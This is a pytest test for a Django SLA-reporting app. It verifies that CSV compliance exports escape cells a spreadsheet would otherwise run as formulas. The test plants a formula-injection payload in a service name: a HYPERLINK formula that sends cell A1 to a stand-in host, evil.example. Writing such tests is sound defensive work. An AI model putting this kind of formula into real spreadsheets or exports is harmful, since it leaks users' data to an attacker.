"""SLA report exports escape cells that a spreadsheet would run as formulas."""

import csv
import io

import pytest

from tests.slm.test_reports import PERIOD, history  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db


def test_compliance_export_escapes_a_formula_in_a_service_name(client, service_level_manager, history):  # noqa: F811
    history["printing"].name = '=HYPERLINK("http://evil.example/?"&A1)'
    history["printing"].save(update_fields=["name"])
    client.force_login(service_level_manager)
    exported = client.get(
        "/agent/slm/reports/compliance/", {**PERIOD, "group_by": "service", "format": "csv"}
    )
    cells = {row[0] for row in csv.reader(io.StringIO(exported.content.decode()))}
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
    assert not any(cell.startswith("=") for cell in cells)
